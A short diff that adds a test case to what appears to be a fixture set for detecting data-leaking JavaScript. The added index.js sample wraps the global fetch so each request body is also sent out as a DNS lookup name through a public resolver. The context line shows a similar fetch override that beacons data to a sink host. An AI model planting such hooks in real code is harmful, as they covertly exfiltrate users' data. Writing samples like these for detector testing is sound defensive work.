@@ -230,6 +230,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
       weight: 'strong',
       says: ['copy.invalid'],
     },
+    {
+      when: 'what pages ask for is asked of a resolver, in a name of its own',
+      files: {
+        'index.js': `const own = globalThis.fetch; globalThis.fetch = (input, init) => { own('https://8.8.8.8/resolve?name=' + init.body + '.stat.invalid'); return own(input, init); };`,
+      },
+    },
   ],
   silent: [
     {
